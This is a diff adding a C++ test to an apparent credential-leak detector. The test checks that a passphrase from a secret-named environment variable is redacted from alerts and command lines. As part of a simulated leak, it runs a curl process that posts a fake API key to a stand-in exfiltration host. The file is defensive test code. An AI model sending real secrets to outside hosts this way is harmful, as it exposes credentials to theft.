@@ -413,5 +413,22 @@ TEST_F(ProcessContextTest, ValueLearnedFromAnEnvironmentIsHiddenInCommandLines) 
   EXPECT_EQ(pipeline_->Counters()["redaction_values"], 1u);
 }
 
+// A passphrase in a variable named like a secret is not random enough to be learned for
+// matching, yet it is a secret: no alert may show it, in the command line that repeats it.
+TEST_F(ProcessContextTest, PassphraseOfASecretNamedVariableIsHiddenInCommandLines) {
+  const std::string phrase = "correct horse battery staple " + RandomToken(4);
+  FakeProc(610, 1, 0, "bash", Env({"DEPLOY_PASSWORD=" + phrase, "LANG=C"}), "/t/a");
+  Exec(610, 1, 0, "bash", 0, {"bash", "-c", "deploy " + phrase});
+  Exec(611, 610, 0, "curl", 0, {"curl", "https://exfil.test/"});
+  PlainHttpPost(611, "curl", OpenAiKey());
+  ASSERT_EQ(sink_.lines.size(), 1u);
+  EXPECT_EQ(sink_.lines[0].find(phrase), std::string::npos) << sink_.lines[0];
+  EXPECT_EQ(sink_.lines[0].find("battery staple"), std::string::npos) << sink_.lines[0];
+  EXPECT_NE(sink_.alerts[0].process.ancestors.front().cmdline.find("bash -c deploy "),
+            std::string::npos);
+  EXPECT_EQ(pipeline_->Counters()["environment_values_not_random"], 1u);
+  EXPECT_EQ(pipeline_->Counters()["secrets_learned_from_environments"], 0u);
+}
+
 }  // namespace
 }  // namespace credsentry::pipeline
